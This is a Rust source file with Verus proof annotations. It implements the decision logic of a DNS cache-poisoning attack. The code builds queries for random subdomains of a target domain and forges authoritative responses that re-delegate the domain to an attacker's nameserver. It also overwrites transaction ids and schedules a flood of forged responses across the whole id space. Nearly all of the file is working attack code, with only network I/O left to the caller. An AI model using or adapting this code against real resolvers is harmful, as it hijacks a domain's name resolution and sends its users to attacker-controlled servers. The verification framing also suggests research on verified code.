//! Decision logic of the cache-poisoning driver: the random subdomain,
//! the query and forged-response pair for one round, transaction-id
//! patching, and the bounded flood schedule.  Sockets and the clock live
//! with the caller, which performs each action this module decides on.

use crate::be_bytes::spec_u16_be;
use crate::error::DnsError;
use crate::header::Opcode;
use crate::hostname::{spec_is_alnum, string_from_ascii};
use crate::message::{Message, MessageV};
use crate::query::{spec_query_check, spec_query_message, Query, QueryV};
use crate::response::{
    spec_a_to_rr, spec_ns_to_rr, spec_response_message, ARecord, ARecordV, NSRecord, NSRecordV,
    Record, Response, ResponseV,
};
use crate::types::Type;
use vstd::prelude::*;
use vstd::string::StringSliceAdditionalSpecFns;
use vstd::utf8::encode_utf8;

verus! {

/// Characters in a random subdomain.
pub const RAND_RESOURCE_LEN: usize = 7;

/// Time to live, in seconds, of the planted NS re-delegation.
pub const NS_TTL: u32 = 240;

/// Relies on `rand::thread_rng` and `SliceRandom::choose`: returns one
/// of the slice's elements; which one cannot be promised.
#[verifier::external_body]
fn choose_byte(choices: &[u8]) -> (r: u8)
    requires
        choices@.len() > 0,
    ensures
        choices@.contains(r),
{
    let mut rng = rand::thread_rng();
    *rand::seq::SliceRandom::choose(choices, &mut rng).unwrap()
}

/// The 62 ASCII alphanumeric bytes.
fn alphanum_bytes() -> (r: Vec<u8>)
    ensures
        r@.len() == 62,
        forall|i: int| 0 <= i < r@.len() ==> spec_is_alnum(#[trigger] r@[i]),
{
    let mut v: Vec<u8> = Vec::new();
    let mut b: u8 = 0x61;
    while b <= 0x7a
        invariant
            0x61 <= b <= 0x7b,
            v@.len() == b - 0x61,
            forall|i: int| 0 <= i < v@.len() ==> spec_is_alnum(#[trigger] v@[i]),
        decreases 0x7b - b,
    {
        v.push(b);
        b = b + 1;
    }
    let mut c: u8 = 0x41;
    while c <= 0x5a
        invariant
            0x41 <= c <= 0x5b,
            v@.len() == 26 + c - 0x41,
            forall|i: int| 0 <= i < v@.len() ==> spec_is_alnum(#[trigger] v@[i]),
        decreases 0x5b - c,
    {
        v.push(c);
        c = c + 1;
    }
    let mut d: u8 = 0x30;
    while d <= 0x39
        invariant
            0x30 <= d <= 0x3a,
            v@.len() == 52 + d - 0x30,
            forall|i: int| 0 <= i < v@.len() ==> spec_is_alnum(#[trigger] v@[i]),
        decreases 0x3a - d,
    {
        v.push(d);
        d = d + 1;
    }
    v
}

/// A random string of ASCII alphanumeric characters.
pub fn rand_alphanum_string(length: usize) -> (r: String)
    ensures
        r@.len() == length,
        encode_utf8(r@).len() == length,
        forall|i: int| 0 <= i < length ==> spec_is_alnum(#[trigger] encode_utf8(r@)[i]),
{
    let alphanum = alphanum_bytes();
    let mut bytes: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    while i < length
        invariant
            bytes@.len() == i,
            i <= length,
            alphanum@.len() == 62,
            forall|j: int| 0 <= j < alphanum@.len() ==> spec_is_alnum(#[trigger] alphanum@[j]),
            forall|j: int| 0 <= j < bytes@.len() ==> spec_is_alnum(#[trigger] bytes@[j]),
        decreases length - i,
    {
        let b = choose_byte(alphanum.as_slice());
        proof {
            let k = choose|k: int| 0 <= k < alphanum@.len() && alphanum@[k] == b;
            assert(spec_is_alnum(alphanum@[k]));
        }
        bytes.push(b);
        i = i + 1;
    }
    proof {
        assert(forall|j: int| 0 <= j < bytes@.len() ==> bytes@[j] < 0x80);
    }
    string_from_ascii(bytes)
}

/// ASCII lowercase letter or digit, the alphabet of a fresh attack
/// subdomain.
pub open spec fn spec_is_lower_alnum(b: u8) -> bool {
    (0x30 <= b <= 0x39) || (0x61 <= b <= 0x7a)
}

/// The 36 lowercase ASCII alphanumeric bytes.
fn lower_alnum_bytes() -> (r: Vec<u8>)
    ensures
        r@.len() == 36,
        forall|i: int| 0 <= i < r@.len() ==> spec_is_lower_alnum(#[trigger] r@[i]),
{
    let mut v: Vec<u8> = Vec::new();
    let mut b: u8 = 0x61;
    while b <= 0x7a
        invariant
            0x61 <= b <= 0x7b,
            v@.len() == b - 0x61,
            forall|i: int| 0 <= i < v@.len() ==> spec_is_lower_alnum(#[trigger] v@[i]),
        decreases 0x7b - b,
    {
        v.push(b);
        b = b + 1;
    }
    let mut d: u8 = 0x30;
    while d <= 0x39
        invariant
            0x30 <= d <= 0x3a,
            v@.len() == 26 + d - 0x30,
            forall|i: int| 0 <= i < v@.len() ==> spec_is_lower_alnum(#[trigger] v@[i]),
        decreases 0x3a - d,
    {
        v.push(d);
        d = d + 1;
    }
    v
}

/// A random string of lowercase ASCII alphanumeric characters, the
/// shape of a fresh attack subdomain.
pub fn rand_lower_alnum_string(length: usize) -> (r: String)
    ensures
        r@.len() == length,
        encode_utf8(r@).len() == length,
        forall|i: int| 0 <= i < length ==> spec_is_lower_alnum(#[trigger] encode_utf8(r@)[i]),
{
    let alphabet = lower_alnum_bytes();
    let mut bytes: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    while i < length
        invariant
            bytes@.len() == i,
            i <= length,
            alphabet@.len() == 36,
            forall|j: int|
                0 <= j < alphabet@.len() ==> spec_is_lower_alnum(#[trigger] alphabet@[j]),
            forall|j: int| 0 <= j < bytes@.len() ==> spec_is_lower_alnum(#[trigger] bytes@[j]),
        decreases length - i,
    {
        let b = choose_byte(alphabet.as_slice());
        proof {
            let k = choose|k: int| 0 <= k < alphabet@.len() && alphabet@[k] == b;
            assert(spec_is_lower_alnum(alphabet@[k]));
        }
        bytes.push(b);
        i = i + 1;
    }
    proof {
        assert(forall|j: int| 0 <= j < bytes@.len() ==> bytes@[j] < 0x80);
    }
    string_from_ascii(bytes)
}

/// The shape of a freshly drawn attack subdomain: 7 lowercase ASCII
/// alphanumeric characters.
pub open spec fn spec_attack_subdomain(sub: Seq<char>) -> bool {
    &&& sub.len() == RAND_RESOURCE_LEN
    &&& encode_utf8(sub).len() == RAND_RESOURCE_LEN
    &&& forall|i: int|
        0 <= i < RAND_RESOURCE_LEN ==> spec_is_lower_alnum(#[trigger] encode_utf8(sub)[i])
}

/// What one attack round builds from the full subdomain name, the domain
/// under attack, the attacker's nameserver and a transaction id: the
/// query, and the forged response carrying an uncacheable A answer for
/// the name and an NS re-delegation of the domain.
pub open spec fn spec_attack_build(
    fqdn: Seq<char>,
    domain: Seq<char>,
    ns: Seq<char>,
    id: u16,
) -> Result<(MessageV, MessageV), DnsError> {
    match spec_query_check(seq![fqdn]) {
        Err(e) => Err(e),
        Ok(_) => {
            let q = spec_query_message(
                QueryV {
                    hostnames: seq![fqdn],
                    qtype: Type::A,
                    opcode: Opcode::QUERY,
                    recursion_desired: true,
                },
                id,
            );
            match spec_a_to_rr(ARecordV { name: fqdn, ttl: 0, ip: seq![127u8, 0u8, 0u8, 1u8] }) {
                Err(e) => Err(e),
                Ok(ans) => match spec_ns_to_rr(NSRecordV { name: domain, ttl: NS_TTL, ns }) {
                    Err(e) => Err(e),
                    Ok(auth) => Ok(
                        (
                            q,
                            spec_response_message(
                                ResponseV {
                                    query: q,
                                    rcode: 0,
                                    answers: seq![ans],
                                    authorities: seq![auth],
                                    additionals: seq![],
                                    authoritative_answer: true,
                                    recursion_available: true,
                                },
                            ),
                        ),
                    ),
                },
            }
        },
    }
}

/// Builds the query for the full subdomain name and the forged response
/// to flood with, around the given transaction id.
pub fn build_attack_messages(fqdn: &str, target_domain: &str, attacker_ns: &str, id: u16) -> (r:
    Result<(Message, Message), DnsError>)
    ensures
        match r {
            Ok(p) => spec_attack_build(fqdn@, target_domain@, attacker_ns@, id)
                == Ok::<(MessageV, MessageV), DnsError>((p.0@, p.1@)),
            Err(e) => spec_attack_build(fqdn@, target_domain@, attacker_ns@, id)
                == Err::<(MessageV, MessageV), DnsError>(e),
        },
{
    let mut hostnames: Vec<String> = Vec::new();
    hostnames.push(String::from_str(fqdn));
    let query = Query::new(hostnames);
    proof {
        assert(query@.hostnames =~= seq![fqdn@]);
    }
    let request_message = query.to_message_with_id(id)?;
    let mut response = Response::new(request_message);
    response.add_answer(
        Record::A(ARecord { name: String::from_str(fqdn), ttl: 0, ip: [127, 0, 0, 1] }),
    )?;
    proof {
        assert([127u8, 0u8, 0u8, 1u8]@ =~= seq![127u8, 0u8, 0u8, 1u8]);
    }
    response.add_authority(
        Record::NS(
            NSRecord {
                name: String::from_str(target_domain),
                ttl: NS_TTL,
                ns: String::from_str(attacker_ns),
            },
        ),
    )?;
    proof {
        assert(response@.answers.len() == response.answers@.len());
        assert(response@.authorities.len() == response.authorities@.len());
        assert(response@.additionals.len() == response.additionals@.len());
    }
    let response_message = response.to_message()?;
    proof {
        assert(response@.answers =~= seq![
            spec_a_to_rr(
                ARecordV { name: fqdn@, ttl: 0, ip: seq![127u8, 0u8, 0u8, 1u8] },
            )->Ok_0,
        ]);
        assert(response@.authorities =~= seq![
            spec_ns_to_rr(NSRecordV { name: target_domain@, ttl: NS_TTL, ns: attacker_ns@ })->Ok_0,
        ]);
        assert(response@.additionals =~= Seq::<crate::resource_record::ResourceRecordV>::empty());
    }
    Ok((response.query, response_message))
}

/// Builds one attack round against the target domain: a query for a
/// fresh random lowercase 7-character subdomain of it, with a random
/// transaction id, and the forged response to flood with.
pub fn attack_messages(attacker_ns: &str, target_domain: &str) -> (r: Result<
    (Message, Message),
    DnsError,
>)
    ensures
        match r {
            Ok(p) => exists|sub: Seq<char>, id: u16|
                spec_attack_subdomain(sub) && #[trigger] spec_attack_build(
                    sub + seq!['.'] + target_domain@,
                    target_domain@,
                    attacker_ns@,
                    id,
                ) == Ok::<(MessageV, MessageV), DnsError>((p.0@, p.1@)),
            Err(e) => exists|sub: Seq<char>, id: u16|
                spec_attack_subdomain(sub) && #[trigger] spec_attack_build(
                    sub + seq!['.'] + target_domain@,
                    target_domain@,
                    attacker_ns@,
                    id,
                ) == Err::<(MessageV, MessageV), DnsError>(e),
        },
{
    let sub = rand_lower_alnum_string(RAND_RESOURCE_LEN);
    let ghost sub_chars = sub@;
    let mut fqdn = sub;
    fqdn.append(".");
    fqdn.append(target_domain);
    proof {
        reveal_strlit(".");
        assert(fqdn@ == sub_chars + seq!['.'] + target_domain@) by {
            assert("."@ =~= seq!['.']);
        }
    }
    let id = rand::random::<u16>();
    let r = build_attack_messages(fqdn.as_str(), target_domain, attacker_ns, id);
    proof {
        match &r {
            Ok(p) => {
                assert(spec_attack_build(
                    sub_chars + seq!['.'] + target_domain@,
                    target_domain@,
                    attacker_ns@,
                    id,
                ) == Ok::<(MessageV, MessageV), DnsError>((p.0@, p.1@)));
            },
            Err(e) => {
                assert(spec_attack_build(
                    sub_chars + seq!['.'] + target_domain@,
                    target_domain@,
                    attacker_ns@,
                    id,
                ) == Err::<(MessageV, MessageV), DnsError>(*e));
            },
        }
    }
    r
}

/// Overwrites the transaction id in an encoded message: its first two
/// bytes, in network order.
pub fn patch_id(bytes: &mut Vec<u8>, id: u16)
    requires
        old(bytes)@.len() >= 2,
    ensures
        final(bytes)@ == spec_u16_be(id) + old(bytes)@.skip(2),
        final(bytes)@.len() == old(bytes)@.len(),
{
    proof {
        assert(id >> 8 < 256 && id & 0xff < 256) by (bit_vector);
    }
    bytes.set(0, (id >> 8) as u8);
    bytes.set(1, (id & 0xff) as u8);
    proof {
        assert(bytes@ =~= spec_u16_be(id) + old(bytes)@.skip(2));
    }
}

/// One burst of forged sends: transaction ids rise from zero, one send
/// per step, until the caller's deadline has passed or the id space is
/// exhausted.
pub struct FloodState {
    pub next_id: u16,
    pub sent: u32,
    pub done: bool,
}

impl FloodState {
    /// A running burst is about to send the id it has counted up to, and
    /// the send count never reaches 65536.
    pub open spec fn wf(self) -> bool {
        &&& !self.done ==> self.next_id as int == self.sent as int && self.next_id <= 0xfffe
        &&& self.sent <= 0xffff
    }

    /// A fresh burst: nothing sent, the first id zero.
    pub fn new() -> (r: FloodState)
        ensures
            r.wf(),
            !r.done,
            r.sent == 0,
            r.next_id == 0,
    {
        FloodState { next_id: 0, sent: 0, done: false }
    }

    /// Decides the next action of the burst.  `Some(id)` tells the
    /// caller to send a forged response with that transaction id; `None`
    /// ends the burst.  `expired` reports whether the deadline has
    /// passed; it takes effect after the current send, so a burst ends
    /// at the first step that observes an expired deadline.
    pub fn step(&mut self, expired: bool) -> (r: Option<u16>)
        requires
            old(self).wf(),
        ensures
            final(self).wf(),
            r is Some <==> !old(self).done,
            old(self).done ==> *final(self) == *old(self),
            !old(self).done ==> r == Some::<u16>(old(self).next_id) && final(self).sent == old(
                self,
            ).sent + 1 && (final(self).done <==> (expired || old(self).next_id == 0xfffe)) && (
            !final(self).done ==> final(self).next_id == old(self).next_id + 1),
    {
        if self.done {
            return None;
        }
        let id = self.next_id;
        self.sent = self.sent + 1;
        if expired || id == 0xfffe {
            self.done = true;
        } else {
            self.next_id = id + 1;
        }
        Some(id)
    }
}

/// Flood bound: however a burst is driven, the number of ids it reports
/// as sent stays strictly below the size of the 16-bit id space.
pub proof fn lemma_flood_count_bounded(s: FloodState)
    requires
        s.wf(),
    ensures
        s.sent < 0x10000,
{
}

} // verus!
